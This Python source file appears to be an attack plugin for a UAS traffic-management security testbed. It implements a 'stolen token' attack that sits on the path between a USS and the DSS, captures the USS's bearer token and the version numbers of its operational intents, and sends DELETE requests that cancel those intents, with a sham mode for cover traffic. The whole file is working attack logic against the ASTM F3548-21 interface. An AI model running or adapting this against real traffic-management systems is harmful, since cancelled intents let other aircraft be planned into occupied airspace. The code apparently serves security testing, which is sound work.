"""Stolen token: who reads what a USS sends to the DSS ends its intents there with its token.

A token gives access to whoever shows it. The DSS forgets the intents; the USS believes that it still has them, and
others plan into their airspace.
"""

from __future__ import annotations

from typing import Final

import skyrange.plugin as sky
from skyrange.attack.bases.approval import check_uss
from skyrange.attack.bases.on_path import CopyForLink
from skyrange.attack.tapped_links import LEARNED, USS
from skyrange.codec.f3548.frames import UssRequest, UssResponse, decode, encode
from skyrange.contracts.verdicts import Direction
from skyrange.utm.federated.names import DSS

_FIRST_EXCHANGE: Final = 2**40
"""Numbers of the adversary's requests, which the USS itself does not use."""
_PATH: Final = "/dss/v1/operational_intent_references/"


@sky.attack(
    "approval.stolen_token",
    technique="T0859",
    effect="others are accepted into the airspace of aircraft that are about to fly, or fly, and meet them",
    knowledge="the interface of the DSS (ASTM F3548-21)",
    position="on the path between USS and DSS, where it reads what passes, such as a proxy that ends TLS",
    budget="one request of about 500 bytes for each intent",
    load="the sham: as many requests of the same length, for versions that do not exist",
    content="none, because an end that the USS itself wants is not an act of the adversary",
    placement="the token of a USS whose aircraft fly where nobody else does",
)
class StolenToken(sky.OnApproval):
    """Ends the intents of a USS at the DSS, with a token that it has read."""

    uss: str = sky.param("USS whose token is stolen, by name: the operator's id, unless the federation names others.")
    every_s: sky.Number = sky.param(
        "Time in seconds between two intents that are ended.", default=0.5, ge=0.01, le=3600
    )
    way: Direction = "rev"
    """To the DSS, which is the first end of its links."""
    token: str = ""
    ovns: dict[str, str] = sky.state(dict)
    """Current OVN of each intent that the DSS has accepted and the adversary has not ended."""
    sent: int = 0

    def build(self, context: sky.AttackContext) -> sky.Attack:
        """A tap at the USS. Raises `InputError` for a USS that the scenario does not have."""
        check_uss(self.uss, context)
        self.when = sky.Repetition(self.schedule, sky.from_seconds(self.every_s))
        return sky.Attack(taps=[sky.TapPlacement(f"{USS}:{DSS}~{self.uss}", self.uss, CopyForLink(self))])

    def on_frame(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
        try:
            message = decode(frame.payload)
        except sky.DecodeError:
            return ()
        if isinstance(message, UssResponse):
            self._learn(message)
        elif message.token and message.token != self.token:
            self.token = message.token
            return (sky.Note(LEARNED, self.link, {"what": "token"}, (frame.id,)),)
        return ()

    def _learn(self, message: UssResponse) -> None:
        reference = (message.body or {}).get("operational_intent_reference")
        if message.status in (200, 201) and isinstance(reference, dict):
            id_, ovn = reference.get("id"), reference.get("ovn")
            if isinstance(id_, str) and isinstance(ovn, str):
                self.ovns[id_] = ovn

    def send(self, now: sky.Time, turn: int) -> bytes | None:
        """The end of the intent that is known for the longest time; of the sham, of a version that does not exist."""
        if not self.token or not self.ovns:
            return None
        id_ = next(iter(self.ovns))
        ovn = self.ovns.pop(id_)
        path = f"{_PATH}{id_}/{'0' * len(ovn) if self.sham else ovn}"
        self.sent += 1
        request = UssRequest.model_construct(
            exchange=_FIRST_EXCHANGE + self.sent, method="DELETE", path=path, token=self.token, body=None
        )
        return encode(request)
